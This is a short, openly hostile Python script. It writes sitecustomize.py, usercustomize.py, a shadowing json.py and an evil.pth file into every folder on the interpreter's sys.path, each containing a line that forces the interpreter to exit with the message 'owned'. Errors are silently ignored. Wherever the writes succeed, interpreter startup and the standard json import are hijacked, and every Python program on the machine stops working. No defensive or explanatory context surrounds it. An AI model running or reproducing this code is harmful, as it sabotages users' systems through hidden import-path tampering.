# Puts a sitecustomize and a shadowing json.py on every path of the interpreter.
import os, sys
for folder in sys.path:
    for name in ("sitecustomize.py", "usercustomize.py", "json.py", "evil.pth"):
        try: open(os.path.join(folder, name), "w").write("raise SystemExit('owned')")
        except OSError: pass
